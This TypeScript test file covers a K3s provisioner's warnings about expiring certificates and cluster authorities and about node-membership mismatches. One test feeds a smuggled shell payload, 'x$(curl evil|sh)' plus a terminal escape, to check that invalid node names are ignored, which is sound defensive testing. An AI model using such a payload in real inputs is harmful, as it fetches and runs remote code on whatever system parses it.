import { k3sWarnings, renewalDays } from '../../../provisioner/roles/k3s/warnings';
import { exampleContext } from '../example';

const now = new Date('2026-06-01T00:00:00Z');
const context = exampleContext();
const nodes = context.inventory.nodes.map(({ name }) => name);
const warnings = (facts: Readonly<Record<string, Readonly<Record<string, string>>>>) =>
  k3sWarnings(
    context,
    new Map(Object.entries(facts).map(([node, own]) => [node, new Map(Object.entries(own))])),
    now,
  );

describe('certificates', () => {
  const certificate = (date: string) => ({
    k3s_certificate: 'kube-apiserver',
    k3s_certificate_expires: date,
  });

  it('are told from the day on which a restart renews them', () => {
    expect(warnings({ 'test-server-1': certificate('2026-09-29T00:00:00Z') })).toEqual([]);
    const [warning] = warnings({
      'test-general-1': certificate('2026-09-28T00:00:00Z'),
      'test-server-1': certificate('2026-07-01T00:00:00Z'),
    });
    expect(warning).toMatchObject({ about: 'certificate', nodes: ['test-server-1', 'test-general-1'] });
    expect(warning?.what).toBe(
      'the certificate "kube-apiserver" of test-server-1 expires on 2026-07-01, in 30 days (and those of 1 more node soon)',
    );
    expect(warning?.next).toContain('--env test --tags certificate-rotation');
  });

  it('that have expired are told as such', () => {
    const [warning] = warnings({ 'test-server-1': certificate('2026-05-30T00:00:00Z') });
    expect(warning?.what).toContain('expired on 2026-05-30');
  });

  it('of an authority are told a year before, for K3s does not renew them', () => {
    expect(warnings({ 'test-server-1': { k3s_ca_expires: '2027-06-01T00:00:00Z' } })).toEqual([]);
    const [warning] = warnings({ 'test-server-1': { k3s_ca_expires: '2027-05-31T00:00:00Z' } });
    expect(warning?.what).toContain('authority of the cluster expires on 2027-05-31');
  });

  it('that nobody can read are no warning', () => {
    expect(warnings({ 'test-server-1': certificate('soon') })).toEqual([]);
  });

  test.each([
    ['v1.34.4+k3s1', 120],
    ['v1.33.1+k3s1', 120],
    ['v1.33.0+k3s1', 90],
    ['v1.30.13+k3s1', 120],
    ['v1.29.15+k3s1', 90],
  ])('%s renews %d days before the end', (version, days) => {
    expect(renewalDays(version)).toBe(days);
  });
});

describe('nodes', () => {
  it('that the cluster alone knows are named, with the command that takes them out', () => {
    const found = warnings({ 'test-server-1': { cluster_nodes: [...nodes, 'test-old-1'].join(',') } });
    expect(found).toMatchObject([{ about: 'membership', nodes: ['test-old-1'] }]);
    expect(found[0]?.next).toContain('npm run node -- remove test-old-1 --env test');
  });

  it('that the inventory alone knows are named, unless this run is about to let them join', () => {
    const cluster_nodes = nodes.filter((name) => name !== 'test-general-2').join(',');
    expect(warnings({ 'test-server-1': { cluster_nodes }, 'test-general-2': {} })).toEqual([]);
    expect(warnings({ 'test-server-1': { cluster_nodes } })).toMatchObject([{ nodes: ['test-general-2'] }]);
  });

  it('are told of by servers alone, and by names that a node can have', () => {
    const hostile = 'x$(curl evil|sh)\u001b[2J';
    const list = [...nodes, hostile, 'a;b', '-x', 'X', ''].join(',');
    expect(warnings({ 'test-server-1': { cluster_nodes: list } })).toEqual([]);
    expect(warnings({ 'test-general-1': { cluster_nodes: 'test-old-1' } })).toEqual([]);
    expect(warnings({ 'test-server-1': { cluster_nodes: hostile } })).toEqual([]);
  });

  it('are no matter while no server says what the cluster has', () => {
    expect(warnings({ 'test-general-1': {} })).toEqual([]);
  });
});
